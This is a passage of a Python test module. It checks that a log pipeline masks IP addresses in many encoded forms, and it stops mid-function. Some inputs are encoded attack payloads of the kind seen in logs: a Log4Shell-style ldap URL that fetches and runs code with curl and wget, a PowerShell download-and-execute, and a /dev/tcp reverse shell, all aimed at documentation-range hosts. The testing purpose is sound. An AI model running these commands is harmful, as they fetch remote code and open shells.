"""Every textual form of an address, in every field of a log line, through a real ingest: none reaches
any byte the tool writes (store files, decoded Parquet values, rejects, manifests, report, stdout).

Also a catalogue of forms through ``mask_text`` (fast, readable failures).
"""

from __future__ import annotations

import base64
import html
import ipaddress
import json
import re
import tempfile
import urllib.parse
from pathlib import Path

import polars as pl
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.cli.ingest import render_ingest
from pipeline.privacy import mask as privacy
from pipeline.privacy.addresses import parse_address
from pipeline.privacy.truncate import NEEDS_MASK
from tests.conftest import ingest_paths

IPAddress = ipaddress.IPv4Address | ipaddress.IPv6Address

# ---------------------------------------------------------------------------------------------------
# Catalogue: mask_text over the forms one at a time
# ---------------------------------------------------------------------------------------------------

FORMS = [
    # IPv4
    ("203.0.113.17", "203.0.113.0/24"),
    ("203.000.113.017", "203.0.113.0/24"),  # zero-padded
    ("203.0.113.012", "203.0.113.0/24"),
    ("0313.0.0161.021", "203.0.113.0/24"),  # inet_aton octal parts
    ("0xcb.0x0.0x71.0x11", "203.0.113.0/24"),  # hex parts
    ("0xCB.0.113.0X11", "203.0.113.0/24"),
    ("000000203.0.113.17", "203.0.113.0/24"),
    ("0" * 5000 + "203.0.113.17", "203.0.113.0/24"),  # past int()'s 4300-digit limit
    ("198.51.100.7:8080", "198.51.100.0/24:8080"),
    ("x=203.0.113.7.5", "x=203.0.113.0/24"),  # the whole dotted run goes
    # a URL's host as a number (browsers and inet_aton read it; found by review)
    ("http://3405803853/", "http://203.0.113.0/24/"),
    ("ref=http://0xcb00714d:8080/x", "ref=http://203.0.113.0/24:8080/x"),
    ("HTTPS://user@0XCB00714D?q", "HTTPS://user@203.0.113.0/24?q"),
    ("go //203.7.29005/x", "go //203.7.113.0/24/x"),  # the last part fills the bytes left
    ("ftp://203.113.77:21", "ftp://203.113.0.0/24:21"),
    ("u=%2F%2F3405803853%2Fa", "u=%2F%2F203.0.113.0/24%2Fa"),
    ("u=http%3A%2F%2F0313.0x71.077%2F", "u=http%3A%2F%2F203.113.0.0/24%2F"),
    ("(+http://3405803853/bot)", "(+http://203.0.113.0/24/bot)"),
    # ... before '&' or a quote, with a trailing dot, in octal past ten digits, with backslashes or
    # JSON-escaped slashes (found by review: the pre-filter had not admitted some of them)
    ("url=http://203.7.29005&a=b", "url=http://203.7.113.0/24&a=b"),
    ("<a href='http://203.113.77'>", "<a href='http://203.113.0.0/24'>"),
    ("http://3405803853./", "http://203.0.113.0/24./"),
    ("http://031300070515/", "http://203.0.113.0/24/"),
    ("http:\\\\3405803853", "http:\\\\203.0.113.0/24"),
    ("http:\\/\\/3405803853/x", "http:\\/\\/203.0.113.0/24/x"),
    ("10.1.198.51.100.7", "10.1.198.0/24"),
    # encoded IPv4
    ("203%2E0%2E113%2E17", "203.0.113.0/24"),
    ("203%2e0%2e113%2e17", "203.0.113.0/24"),
    ("203%252E0%252E113%252E17", "203.0.113.0/24"),  # double-encoded
    ("%32%30%33%2E%30%2E%31%31%33%2E%31%37", "203.0.113.0/24"),  # digits encoded too
    ("%32%30%33.0.113.17", "203.0.113.0/24"),
    ("%2532%2530%2533.0.113.17", "203.0.113.0/24"),
    (r"203\x2e0\x2e113\x2e17", "203.0.113.0/24"),  # \xHH as servers escape bytes
    (r"\x32\x30\x33.0.113.17", "203.0.113.0/24"),
    ("203%u002E0%u002E113%u002E17", "203.0.113.0/24"),
    (r"203\u002e0\u002e113\u002e17", "203.0.113.0/24"),  # JSON escapes
    ("&#50;&#48;&#51;.0.113.17", "203.0.113.0/24"),  # HTML numeric entities
    ("203&#46;0&#x2E;113&#046;17", "203.0.113.0/24"),
    ("2001&#58;db8&#58;&#58;5", "2001:db8::/48"),
    ("2001&#58db8&#58&#58;5", "2001:db8::/48"),  # a browser reads &#58 without ';' too
    # DNS names that spell an address: IPv6 with dashes, IPv4 as hex
    ("2001-db8--1.ipv6-literal.net", "2001:db8::/48.ipv6-literal.net"),
    ("http://2001-db8-abcd-12--1.sslip.io/x", "http://2001:db8:abcd::/48.sslip.io/x"),
    ("fe80--1s4.ipv6-literal.net", "fe80::/48.ipv6-literal.net"),
    ("app-2001-db8--1.sslip.io", "app-2001:db8::/48.sslip.io"),  # after a name and a dash
    ("app--2001-db8--1.sslip.io", "app--2001:db8::/48.sslip.io"),
    ("app-cb007111.nip.io", "app-203.0.113.0/24.nip.io"),
    ("CB007111.NIP.IO", "203.0.113.0/24.NIP.IO"),
    ("my-site.sslip.io", "my-site.sslip.io"),
    ("cafe-babe--beef.example.com", "cafe-babe--beef.example.com"),
    ("203&period;0&period;113&period;17", "203.0.113.0/24"),  # named references
    ("2001&colon;db8&colon;&colon;5", "2001:db8::/48"),
    ("203&amp;#46;0&amp;#46;113&amp;#46;17", "203.0.113.0/24"),  # an entity escaped once more
    ("ip=203%26period%3B0%26period%3B113%26period%3B77", "ip=203.0.113.0/24"),  # and URL-encoded
    ("2001%26colon%3Bdb8%26colon%3B%26colon%3B1", "2001:db8::/48"),
    ("203%26%2346%3B0%26%2346%3B113%26%2346%3B77", "203.0.113.0/24"),
    (r"203\x26period;0\x26period;113\x26period;77", "203.0.113.0/24"),
    ("203&#x26;period;0&#x26;period;113&#x26;period;77", "203.0.113.0/24"),
    # entities of the characters NFKC reads as digits and dots; entities split by a percent-escape
    ("203&#65294;0&#xff0e;113&#12290;7", "203.0.113.0/24"),
    ("&#65298;03.0.113.7", "203.0.113.0/24"),
    ("203%26%2365294%3B0%26%2365294%3B113%26%2365294%3B7", "203.0.113.0/24"),
    ("&#5%30;&#4%38;&#5%31;.0.113.7", "203.0.113.0/24"),
    ("203&#4%36;0&#4%36;113&#4%36;7", "203.0.113.0/24"),
    ("203&amp#46;0&amp#46;113&amp#46;7", "203.0.113.0/24"),  # &amp without ';', as browsers read it
    ("caf&#233; &amp; co &#64257;", "caf&#233; &amp; co &#64257;"),  # no address: unchanged
    ("ip-203&hyphen;0&hyphen;113&hyphen;17.example", "ip-203.0.113.0/24.example"),
    ("\uff12\uff10\uff13\uff0e0\uff0e113\uff0e17", "203.0.113.0/24"),  # fullwidth digits and dots
    # base64 payloads: decoded at each alignment, masked, encoded again (found by review)
    (
        "ldap://x/Basic/Command/Base64/KGN1cmwgLXMgMjAzLjAuMTEzLjc3OjU4NzR8fHdnZXQgLXEgLU8tIDIwMy4wLjExMy43Nyl8YmFzaA==",
        "ldap://x/Basic/Command/Base64/KGN1cmwgLXMgMjAzLjAuMTEzLjAvMjQ6NTg3NHx8d2dldCAtcSAtTy0gMjAzLjAuMTEzLjAvMjQpfGJhc2g=",
    ),
    ("/cb?d=dG8gMjAwMTpkYjg6YWJjZDoxMjo6NyBvaw==", "/cb?d=dG8gMjAwMTpkYjg6YWJjZDo6LzQ4IG9r"),
    # found by review: base64 of UTF-16 (PowerShell's -enc) and UTF-32, of a short address, base64 in
    # base64; the digits of other scripts; %uHHHH and \\uHHHH of look-alikes, surrogate pairs, \\U…
    (
        "/x?cmd=powershell%20-enc%20SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwA3AC8AYQAnACkA",
        "/x?cmd=powershell%20-enc%20SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AMAAvADIANAAvAGEAJwApAA==",
    ),
    (
        "/x?d=AAAAZwAAAGUAAAB0AAAAIAAAADIAAAAwAAAAMwAAAC4AAAAwAAAALgAAADEAAAAxAAAAMwAAAC4AAAA3AAAANwAAACAAAABuAAAAbwAAAHc=",
        "/x?d=AAAAZwAAAGUAAAB0AAAAIAAAADIAAAAwAAAAMwAAAC4AAAAwAAAALgAAADEAAAAxAAAAMwAAAC4AAAAwAAAALwAAADIAAAA0AAAAIAAAAG4AAABvAAAAdw==",
    ),
    ("/?ip=NS42LjcuODk=", "/?ip=NS42LjcuMC8yNA=="),
    ("/?ip=MS4xLjEuMQ==", "/?ip=MS4xLjEuMC8yNA=="),
    (
        "/?p=WW1GemFDQXRhU0ErSmlBdlpHVjJMM1JqY0M4eU1ETXVNQzR4TVRNdU56Z3ZORFEwTkNBd1BpWXg=",
        "/?p=WW1GemFDQXRhU0ErSmlBdlpHVjJMM1JqY0M4eU1ETXVNQzR4TVRNdU1DOHlOQzgwTkRRMElEQStKakU9",
    ),
    ("/?ip=٢٠٣.٠.١١٣.٧٩", "/?ip=203.0.113.0/24"),
    ("/?ip=203.0.113.٧٧", "/?ip=203.0.113.0/24"),
    ("/?ip=२०३.०.११३.७", "/?ip=203.0.113.0/24"),
    ("/?ip=۲۰۳٫۰٫۱۱۳٫۷۷", "/?ip=203.0.113.0/24"),
    ("/?ip=٢٠٠١:db8::٧٧", "/?ip=2001:db8::/48"),
    ("/?ip=203%uFF0E0%uFF0E113%uFF0E85", "/?ip=203.0.113.0/24"),
    ("/?ip=203\\uff0e0\\uff0e113\\uff0e81", "/?ip=203.0.113.0/24"),
    ("/?ip=203\\u30020\\u3002113\\u300277", "/?ip=203.0.113.0/24"),
    ("/?ip=\\uD835\\uDFD0\\uD835\\uDFCE\\uD835\\uDFD1.0.113.5", "/?ip=203.0.113.0/24"),
    ("/?ip=\\U0001D7D0\\U0001D7CE\\U0001D7D1.0.113.5", "/?ip=203.0.113.0/24"),
    ("/?q=caf\\u00e9 %u4e2d ١٢٣ token=QWxhZGRpbjpvcGVu", "/?q=caf\\u00e9 %u4e2d ١٢٣ token=QWxhZGRpbjpvcGVu"),
    # found by the review of those: addresses in two encodings or levels at once, base64 wrapped at 76
    # and URL-encoded, \U000000HH, NULs and their picture escaped between the characters
    (
        "q=cGluZyAyMDMuMC4xMTMuNzcgcABpAG4AZwAgADEAOQA4AC4ANQAxAC4AMQAwADAALgA5ADkA",
        "q=cGluZyAyMDMuMC4xMTMuMC8yNCBwAGkAbgBnACAAMQA5ADgALgA1ADEALgAxADAAMAAuADAALwAyADQA",
    ),
    (
        "q=Y3VybCAyMDMuMC4xMTMuNzc7IGVjaG8gTVRrNExqVXhMakV3TUM0NU9RPT0gfCBiYXNlNjQgLWQ=",
        "q=Y3VybCAyMDMuMC4xMTMuMC8yNDsgZWNobyBNVGs0TGpVeExqRXdNQzR3THpJMCB8IGJhc2U2NCAtZA==",
    ),
    (
        "/x?c=IyEvYmluL3NoCiMgeHh4eHh4eHh4eHh4eHh4eHh4eHgKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEz%0ALjc3OjgwODAvczIgfCBzaAo%3D%0A",
        "/x?c=IyEvYmluL3NoCiMgeHh4eHh4eHh4eHh4eHh4eHh4eHgKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEz%0ALjAvMjQ6ODA4MC9zMiB8IHNoCg==%0A",
    ),
    (
        "q=\\U00000032\\U00000030\\U00000033\\U0000002E\\U00000030\\U0000002E\\U00000031\\U00000031\\U00000033\\U0000002E\\U00000037\\U00000037",
        "q=203.0.113.0/24",
    ),
    ("q=2%u24000%u24003%u2400.%u24000%u2400.%u24001%u24001%u24003%u2400.%u24007%u24007", "q=203.0.113.0/24"),
    ("q=2\\x000\\x003\\x00.\\x000\\x00.\\x001\\x001\\x003\\x00.\\x007\\x007", "q=203.0.113.0/24"),
    ("q=2%000%003%00.%000%00.%001%001%003%00.%007%007", "q=203.0.113.0/24"),
    # a word after a line break is no line of wrapped base64: kept as written (found by review)
    (
        "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc3L3guc2h8c2g7%0AHelloWorld1&q=2",
        "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjAvMjQveC5zaHxzaDs=%0AHelloWorld1&q=2",
    ),
    (
        "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc3L3guc2h8c2g7%0D%0Ahostname42a",
        "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjAvMjQveC5zaHxzaDs=%0D%0Ahostname42a",
    ),
    # a header line, then a payload masked line by line with padding mid-run, an address across a break
    (
        "q=QUJDREVGR0hJSktM%0AeD0yMDMuMC4xMTMuNzc7YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh%0AYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJpZD0xOTgu%0ANTEuMTAwLjIzO2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2M=",
        "q=QUJDREVGR0hJSktMeD0yMDMuMC4xMTMuMC8yNDthYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmlkPTE5OC41MS4xMDAuMC8yNDtjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2Nj",
    ),
    # reverse DNS names: the octets and nibbles reversed (the forward reading kept the host octet);
    # a zone no narrower than the mask stays (found by review)
    ("/p/77.113.0.203.in-addr.arpa", "/p/[203.0.113.0/24].in-addr.arpa"),
    ("113.0.203.in-addr.arpa", "113.0.203.in-addr.arpa"),
    (
        "4.1.0.1.0.f.e.d.c.b.a.9.8.7.6.5.4.3.2.1.4.1.0.0.8.b.d.0.1.0.0.2.ip6.arpa",
        "[2001:db8:14::/48].ip6.arpa",
    ),
    ("x 8.b.d.0.1.0.0.2.ip6.arpa", "x 8.b.d.0.1.0.0.2.ip6.arpa"),
    # IPv6 as file and host names write it, eight groups joined (not a date and time)
    ("/backup/host_2001_db8_5_6_7_8_9_a.tar", "/backup/host_2001:db8:5::/48.tar"),
    ("2001-0db8-0016-0001-0002-0003-0004-0005", "2001:db8:16::/48"),
    ("/backup-2024-11-03-12-30-00-01-02.tar", "/backup-2024-11-03-12-30-00-01-02.tar"),
    ("/db_2024_01_15_10_30_45_123_456.sql", "/db_2024_01_15_10_30_45_123_456.sql"),  # a serial, no letter
    ("/v/2a02_8070_8884_1200_0_0_0_1", "/v/2a02:8070:8884::/48"),  # a letter in the first group only
    (
        "ns1.5.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.2.1.0.0.d.c.b.a.8.b.d.0.1.0.0.2.ip6.arpa",
        "ns1.[2001:db8:abcd::/48].ip6.arpa",
    ),
    ("host-1.77.113.0.203.in-addr.arpa", "host-1.[203.0.113.0/24].in-addr.arpa"),
    # reverse DNS names with labels before them, in any global range (the pre-filter admits ip6.arpa)
    ("x.77.113.0.203.in-addr.arpa", "x.[203.0.113.0/24].in-addr.arpa"),
    (
        "name=8.b.7.a.6.f.5.e.4.d.3.c.2.b.1.a.d.a.e.d.f.e.e.b.e.f.a.c.b.0.a.2.ip6.arpa",
        "name=[2a0b:cafe:beef::/48].ip6.arpa",
    ),
    # glued to the escape of a non-ASCII character before it, or to digits after it
    ("%C3%A9203.0.113.31", "%C3%A203.0.113.0/24"),
    (r"ua \xC3\xA9203.0.113.32", r"ua \xC3\xA203.0.113.0/24"),
    (r"\u00e9203.0.113.14", r"\u00e203.0.113.0/24"),
    (r"\ud800203.0.113.14", r"\ud203.0.113.0/24"),
    ("203.0.113.3100", "203.0.113.0/24"),
    ("Chrome/116.0.5845.187", "Chrome/116.0.5845.187"),  # a version is no address
    ("203\u30020\u3002113\u300217", "203.0.113.0/24"),  # ideographic full stop
    # dash- or underscore-joined, in host and file names (reverse DNS, operators' names)
    ("ec2-203-0-113-77.compute-1.amazonaws.com", "ec203.0.113.0/24.compute-1.amazonaws.com"),
    ("/h/host203-0-113-18-1", "/h/host0.113.18.0/24"),  # five numbers after a word: all of them go
    ("host81-2-69-160.range81-2.example", "host81.2.69.0/24.range81-2.example"),
    ("ip-10-0-0-1.ec2.internal", "ip-10.0.0.0/24.ec2.internal"),
    ("c-73-1-2-3.hsd1.ca.example.net", "c-73.1.2.0/24.hsd1.ca.example.net"),
    ("203-0-113-77-static.example.net", "203.0.113.0/24-static.example.net"),
    ("/logs/access_203_0_113_77.log", "/logs/access_203.0.113.0/24.log"),
    ("203-000-113-077", "203.0.113.0/24"),  # zero-padded: decimal, as host names write it
    ("203-0-113-77/32", "203.0.113.0/24"),
    ("203%2D0%2D113%2D77", "203.0.113.0/24"),
    ("203%252D0%252D113%252D77", "203.0.113.0/24"),
    ("203%5F0%5F113%5F77", "203.0.113.0/24"),
    ("203&#45;0&#x2d;113&#45;77", "203.0.113.0/24"),
    ("203&#95;0&#x5F;113&#95;77", "203.0.113.0/24"),
    ("\uff12\uff10\uff13\uff0d0\uff0d113\uff0d77", "203.0.113.0/24"),
    ("10-0-0-0/8", "10-0-0-0/8"),  # a network, written with its prefix length: stays
    ("backup-2024-11-03-12-30.tar.gz", "backup-2024-11-03-12-30.tar.gz"),  # a date and time run on
    ("/archive/2024-11-03", "/archive/2024-11-03"),
    ("v1-2-3-4-5", "v2.3.4.0/24"),  # five numbers, the first ends a word: the whole run
    ("1-2-3-4-5", "1-2-3-4-5"),  # five numbers: no address of one
    ("203-0_113-77", "203-0_113-77"),  # separators mixed
    ("203-0-113-256", "203-0-113-256"),
    ("550e8400-e29b-41d4-a716-446655440000", "550e8400-e29b-41d4-a716-446655440000"),  # a UUID
    # UTF-8 of fullwidth and ideographic full stops, escaped; what NFKC or IDNA read as digits and dots
    ("/a/203%EF%BC%8E0%EF%BC%8E113%EF%BC%8E11", "/a/203.0.113.0/24"),
    (r"/b/203\xE3\x80\x820\xE3\x80\x82113\xE3\x80\x8212", "/b/203.0.113.0/24"),
    ("http://203\uff610\uff61113\uff6113/", "http://203.0.113.0/24/"),
    ("UA \U0001d7d0\U0001d7ce\U0001d7d1.\U0001d7ce.113.14", "UA 203.0.113.0/24"),
    ("/m/%F0%9D%9F%90%F0%9D%9F%8E%F0%9D%9F%91.0.113.14", "/m/203.0.113.0/24"),  # mathematical, escaped
    ("/ja/%E3%83%86%E3%82%B9%E3%83%88", "/ja/%E3%83%86%E3%82%B9%E3%83%88"),  # other text stays
    # UTF-16 text (NUL between characters) and its rendering in quarantined lines
    ("x 2\x000\x003\x00.\x000\x00.\x001\x001\x003\x00.\x002\x001\x00", "x 203.0.113.0/24\x00"),
    ("x 2\u24000\u24003\u2400.\u24000\u2400.\u24001\u24001\u24003\u2400.\u24002\u24001", "x 203.0.113.0/24"),
    ("/g/203%252525252E0%252525252E113%252525252E17", "/g/203.0.113.0/24"),  # encoded six times
    ("2002:cb00:7111::1", "2002:cb00:7100::/40"),  # 6to4 carries 203.0.113.17 in bits 16-48
    ("/a&amp;b=1", "/a&amp;b=1"),  # an entity that is no address character stays
    ("/a/203%2E000%2E113%2E017/b", "/a/203.0.113.0/24/b"),
    # IPv4-mapped and -compatible
    ("::ffff:198.51.100.77", "198.51.100.0/24"),
    ("::ffff:198.51.100.077", "198.51.100.0/24"),  # was ::ffff:198.51.100.0/2477
    ("::FFFF:198.51.100.7", "198.51.100.0/24"),
    ("0:0:0:0:0:ffff:198.51.100.7", "198.51.100.0/24"),
    ("0000:0000:0000:0000:0000:ffff:c633:6407", "198.51.100.0/24"),
    ("::ffff:c633:6407", "198.51.100.0/24"),
    ("::198.51.100.7", "198.51.100.0/24"),
    ("[::ffff:198.51.100.7]:443", "[198.51.100.0/24]:443"),
    ("%3A%3Affff%3A198.51.100.7", "198.51.100.0/24"),
    ("::ffff:0xc6.0x33.0x64.0x07", "198.51.100.0/24"),
    # IPv6
    ("2001:db8:abcd:12::1", "2001:db8:abcd::/48"),
    ("2001:0db8:abcd:0012:0000:0000:0000:0001", "2001:db8:abcd::/48"),
    ("2001:DB8:ABCD:12::1", "2001:db8:abcd::/48"),
    ("[2001:db8:abcd::1]:443", "[2001:db8:abcd::/48]:443"),
    ("fe80::1%eth0", "fe80::/48"),
    ("fe80::1%25eth0", "fe80::/48"),
    ("2001:db8::198.51.100.7", "2001:db8::/48"),
    ("2001%3Adb8%3A%3A5", "2001:db8::/48"),
    ("2001%253Adb8%253A%253A5", "2001:db8::/48"),
    ("%5B2001%3Adb8%3A%3A5%5D%3A443", "%5B2001:db8::/48%5D%3A443"),
    (r"2001\x3adb8\x3a\x3a5", "2001:db8::/48"),
    ("client:2001:db8:abcd:12::1", "client:2001:db8:abcd::/48"),
    ("2001:00db8:abcd::1", "2001:db8:abcd::/48"),  # zero-padded beyond 4 digits
    # followed by a dot: a rotated log's name, a path or parameter going on
    ("access.log.2001:db8::17.1", "access.log.2001:db8::/48"),
    ("access.log.2001:db8::17.1.gz", "access.log.2001:db8::/48.gz"),
    ("/peer/2001:db8::17.1", "/peer/2001:db8::/48"),
    ("?a=2001:db8::17.a&b=1", "?a=2001:db8::/48&b=1"),
    ("ua fe80::1.2", "ua fe80::/48"),
    # with a prefix length: an address with host bits is masked with it; a network no narrower than
    # the masked one stays (so masking twice changes nothing)
    ("/x/203.0.113.77/24", "/x/203.0.113.0/24"),
    ("203.0.113.77/32 x", "203.0.113.0/24 x"),
    ("10.1.2.3/8", "10.1.2.0/24"),
    ("2001:db8::17/128", "2001:db8::/48"),
    ("203.0.113.0/24", "203.0.113.0/24"),
    ("ban 10.0.0.0/8", "ban 10.0.0.0/8"),
    ("2001:db8:abcd::/48", "2001:db8:abcd::/48"),
    ("2002:cb00:7100::/40", "2002:cb00:7100::/40"),
    ("log.203.0.113.0/24/access.log.2001:db8::/48", "log.203.0.113.0/24/access.log.2001:db8::/48"),
    # ... but only a network alone: a longer run that starts with one holds more
    ("10.0.0.0.203.0.113.77/8", "10.0.0.0/24"),
    ("GET /cidr/0.0.0.0.203.0.113.77/0 x", "GET /cidr/0.0.0.0/24 x"),
    ("::ffff:10.0.0.0.203.0.113.77/8", "::ffff:10.0.0.0/24"),
    ("10%2E0%2E0%2E0%2E203%2E0%2E113%2E77%2F8", "10.0.0.0/24"),
    ("2001:db8:0:0:0:0:0:0:2001:db8::77/32", "2001:db8::/48"),
    ("2001:db8::77:2001:0db8:0000:0000:0000:0000:0000:0000/32", "2001:db8::/48"),
    ("::ffff:203.0.113.77/0", "203.0.113.0/24"),
    # not addresses: untouched
    ("Chrome/116.0.5845.187", "Chrome/116.0.5845.187"),
    ("Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0", "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0"),
    ("https%3A%2F%2Fwww.example.com%2Fa%3Fb%3D1", "https%3A%2F%2Fwww.example.com%2Fa%3Fb%3D1"),
    ("q=caf%C3%A9&n=%20%21", "q=caf%C3%A9&n=%20%21"),
    ("at 10:30:00 UTC", "at 10:30:00 UTC"),
    ("version 1.2.3", "version 1.2.3"),
    ("/pod/Moose::Role", "/pod/Moose::Role"),
    ("https://example.com//2024/05/x", "https://example.com//2024/05/x"),  # a path's numbers
    ("/a//123/b", "/a//123/b"),
    ("http://12345/", "http://12345/"),  # below 1.0.0.0: a number more likely than an address
    ("http://4294967296/", "http://4294967296/"),  # past 32 bits: no address
]


@pytest.mark.parametrize(("text", "expected"), FORMS, ids=[f[0][-60:] for f in FORMS])
def test_mask_text_catalogue(text: str, expected: str) -> None:
    assert privacy.mask_text(pl.Series([text]), privacy.ClientMasker()).to_list() == [expected]


@pytest.mark.parametrize("text", [f[0] for f in FORMS], ids=[f[0][-60:] for f in FORMS])
def test_masking_twice_changes_nothing(text: str) -> None:
    """What hostlogs stored masked (a file name in a manifest, SQL in the audit trail) and masks
    again on its way elsewhere (metrics, reports) keeps its networks as they were."""
    masker = privacy.ClientMasker()
    once = privacy.mask_text(pl.Series([text]), masker)
    assert privacy.mask_text(once, masker).to_list() == once.to_list()


def test_catalogue_in_one_batch_matches_one_by_one() -> None:
    out = privacy.mask_text(pl.Series([t for t, _ in FORMS]), privacy.ClientMasker()).to_list()
    assert out == [e for _, e in FORMS]


# ---------------------------------------------------------------------------------------------------
# Property: real ingest, every byte written
# ---------------------------------------------------------------------------------------------------

_DOC_NETS = [
    ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")
]


@st.composite
def addresses(draw: st.DrawFn) -> IPAddress:
    """Documentation-range or random addresses whose host part is not all zeros (else the network
    text contains the address text and nothing could be hidden)."""
    if draw(st.booleans()):
        net = draw(st.sampled_from(_DOC_NETS))
        addr: IPAddress = net[draw(st.integers(1, min(net.num_addresses - 1, 2**64)))]
    else:
        addr = draw(st.ip_addresses())
    masker = privacy.ClientMasker()
    plain = parse_address(str(addr))
    assert plain is not None
    host_bits = int(plain) & ((1 << (32 - 24)) - 1 if plain.version == 4 else (1 << 80) - 1)
    if host_bits == 0 or len(str(addr)) < 7 or masker.network_of(plain).startswith(str(addr)):
        addr = (
            ipaddress.ip_address("203.0.113.77")
            if addr.version == 4
            else ipaddress.ip_address("2001:db8::77")
        )
    return addr


def _v4_parts(a: ipaddress.IPv4Address, style: int) -> list[str]:
    o = [int(x) for x in str(a).split(".")]
    return [
        [str(x) for x in o],
        [f"{x:03d}" for x in o],
        [f"0{x:o}" for x in o],
        [f"0x{x:x}" for x in o],
        [f"0x{x:X}" if i % 2 else str(x) for i, x in enumerate(o)],
        [f"{x:05d}" for x in o],
    ][style % 6]


def render(addr: IPAddress, style: int) -> str:
    """One textual form of ``addr`` (before any encoding)."""
    if addr.version == 4:
        assert isinstance(addr, ipaddress.IPv4Address)
        dotted = ".".join(_v4_parts(addr, style))
        padded = ".".join(_v4_parts(addr, 1))
        v4_forms = [
            dotted,
            f"{dotted}:8080",
            f"::ffff:{dotted if style % 6 in (0, 1) else addr}",
            f"::ffff:{padded}",
            f"::FFFF:{addr}",
            f"0:0:0:0:0:ffff:{addr}",
            f"::ffff:{int(addr) >> 16:x}:{int(addr) & 0xFFFF:x}",
            f"::{addr}",
            f"[::ffff:{addr}]:443",
            f"ec2-{joined(addr, '-')}.compute-1.example.test",  # reverse DNS names
            f"access_{joined(addr, '_')}.log",  # operators' file names
            f"app-{int(addr):08x}.nip.io",  # DNS names that spell an address
        ]
        return v4_forms[style % len(v4_forms)]
    assert isinstance(addr, ipaddress.IPv6Address)
    s = str(addr)
    v6_forms = [s, addr.exploded, addr.exploded.upper(), s.upper(), f"[{s}]:443", f"{s}%eth0", f"{s}%25eth1"]
    v6_forms += [
        f"{s.replace(':', '-')}.ipv6-literal.net",
        f"http://{addr.exploded.replace(':', '-')}.sslip.io/",
    ]
    return v6_forms[style % len(v6_forms)]


def joined(addr: ipaddress.IPv4Address, sep: str) -> str:
    return str(addr).replace(".", sep)


def encode(text: str, how: int) -> str:
    if how == 1:  # URL-encoded separators
        return text.replace(".", "%2E").replace(":", "%3A")
    if how == 2:  # everything encoded, lower-case hex
        return "".join(f"%{ord(c):02x}" for c in text)
    if how == 3:  # double-encoded
        return urllib.parse.quote(text.replace(".", "%2E").replace(":", "%3A"), safe="")
    if how == 4:  # \xHH as servers escape bytes
        return text.replace(".", r"\x2e").replace(":", r"\x3a")
    if how == 5:  # digits encoded, double
        return re.sub(r"[0-9]", lambda m: f"%25{ord(m[0]):02X}", text)
    if how == 6:  # right after the escape of a non-ASCII character, which ends in a digit
        return "%C3%A9" + text
    if how == 7:  # HTML's named references
        return text.replace(".", "&period;").replace(":", "&colon;")
    if how == 8:  # an HTML entity escaped once more
        return text.replace(".", "&amp;#46;").replace(":", "&amp;#58;")
    if how == 9:  # a named reference, URL-encoded
        return text.replace(".", "%26period%3B").replace(":", "%26colon%3B")
    if how == 10:  # entities of fullwidth forms, and an entity split by a percent-escape
        return text.replace(".", "&#65294;").replace(":", "&#x3a%3B").replace("0", "&#4%38;")
    if how == 11:  # IIS's %uHHHH and JSON's \uHHHH of a fullwidth stop, Arabic-Indic digits
        return text.replace(".", "%uFF0E").replace(":", "\\uFF1A").translate(_ARABIC_INDIC)
    if how == 12:  # base64 of UTF-16 text (PowerShell -enc)
        return base64.b64encode(f"iwr http://{text}/a".encode("utf-16-le")).decode()
    if how == 13:  # base64 of the address alone (short), and base64 in base64
        return (
            base64.b64encode(text.encode()).decode()
            + "~"
            + base64.b64encode(base64.b64encode(text.encode())).decode()
        )
    return text


_ARABIC_INDIC = str.maketrans("0123456789", "\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669")


def needles(used: str, addr: IPAddress) -> set[str]:
    """Texts that must appear nowhere: the form used, decoded, canonical, expanded."""
    decoded = used
    for _ in range(4):
        decoded = html.unescape(urllib.parse.unquote(decoded.replace(r"\x", "%")))
    out = {used, decoded, str(addr), addr.exploded}
    plain = parse_address(str(addr))
    if plain is not None:
        out |= {str(plain), plain.exploded}
    if isinstance(addr, ipaddress.IPv4Address):
        out |= {f"::ffff:{addr}", ipaddress.IPv6Address(f"::ffff:{addr}").exploded}
        out |= {joined(addr, "-"), joined(addr, "_"), f"{int(addr):08x}"}
    else:
        out |= {str(addr).replace(":", "-"), addr.exploded.replace(":", "-")}
    return {n for n in out if len(n) >= 7}


FIELDS = ("client", "path", "query", "protocol", "referrer", "agent", "vhost", "rejected")
form_choice = st.tuples(st.integers(0, 20), st.integers(0, 13), st.sampled_from(FIELDS))


def log_line(field: str, form: str, n: int) -> str:
    client, vhost, path, query, proto, ref, agent = (
        "192.0.2.1",
        "www.example.test",
        f"/p{n}",
        "a=1",
        "HTTP/1.1",
        "-",
